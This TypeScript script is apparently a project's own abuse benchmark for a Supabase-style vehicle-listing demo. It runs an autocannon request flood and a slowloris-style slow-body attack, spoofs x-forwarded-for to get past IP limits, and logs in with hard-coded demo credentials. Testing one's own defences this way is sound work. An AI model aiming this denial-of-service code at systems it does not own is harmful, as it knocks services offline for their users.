import { connect } from 'node:net'
import autocannon from 'autocannon'
import { type Attack, attacks, type Target } from './attacks.ts'

// The program of an attacker: `node bench/flood.ts <url> <name of the attack> <anon key> <seconds> <address>`.

const [url = '', name = '', anonKey = '', seconds = '10', address = '203.0.113.7'] = process.argv.slice(2)
const attack: Attack = attacks[name] ?? { path: () => '/' }
const target = { url, anonKey, picture: await anyPicture() }
const headers = {
  apikey: anonKey,
  'content-type': 'application/json',
  'accept-encoding': 'br',
  'x-forwarded-for': address,
  ...(attack.asMember && { authorization: `Bearer ${await memberToken()}` }),
  ...attack.headers,
}
const outcome = attack.slowly ? await slowBodies(attack.slowly) : await requests(target)
process.stdout.write(JSON.stringify(outcome))

async function requests(given: Target) {
  const { method = 'GET', path, body } = attack
  let request = 0
  const result = await autocannon({
    url,
    connections: 20,
    duration: Number(seconds),
    timeout: 60,
    requests: [
      {
        method,
        headers,
        setupRequest: (one) => ({ ...one, path: path(request++, given), ...(body && { body: body() }) }),
      },
    ],
  })
  return { answered: result.requests.total, refused: result.non2xx, failed: result.errors }
}

/** Keeps so many bodies open; one that is closed is begun again. */
async function slowBodies(connections: number) {
  const { hostname, port } = new URL(url)
  const counts = { answered: 0, refused: 0, failed: 0 }
  const end = performance.now() + Number(seconds) * 1000
  const head = Object.entries({ ...headers, host: hostname, 'content-length': '1000000' })
  const once = () =>
    new Promise<void>((resolve) => {
      const socket = connect(Number(port), hostname)
      socket.write(
        `POST ${attack.path(0, target)} HTTP/1.1\r\n${head.map((header) => header.join(': ')).join('\r\n')}\r\n\r\n`,
      )
      const timer = setInterval(() => (performance.now() > end ? socket.destroy() : socket.write('x')), 250)
      socket.once('data', () => {
        counts.answered += 1
        counts.refused += 1
        socket.destroy()
      })
      socket.on('error', () => {})
      socket.once('close', () => {
        clearInterval(timer)
        resolve()
      })
    })
  await Promise.all(
    Array.from({ length: connections }, async () => {
      while (performance.now() < end) await once()
    }),
  )
  return counts
}

/** The token of a member of the demo world. */
async function memberToken(): Promise<string> {
  const answer = await fetch(`${url}/auth/v1/token?grant_type=password`, {
    method: 'POST',
    headers: { apikey: anonKey, 'content-type': 'application/json', 'x-forwarded-for': address },
    body: JSON.stringify({ email: 'customer@magari.test', password: 'Karibu-2026' }),
  })
  return ((await answer.json()) as { access_token: string }).access_token
}

async function anyPicture(): Promise<string> {
  const answer = await fetch(`${url}/rest/v1/vehicle_listings?select=images&status=eq.active&limit=1`, {
    headers: { apikey: anonKey },
  })
  const [listing] = (await answer.json()) as { images: string[] }[]
  return listing?.images[0]?.split('/public/')[1] ?? ''
}
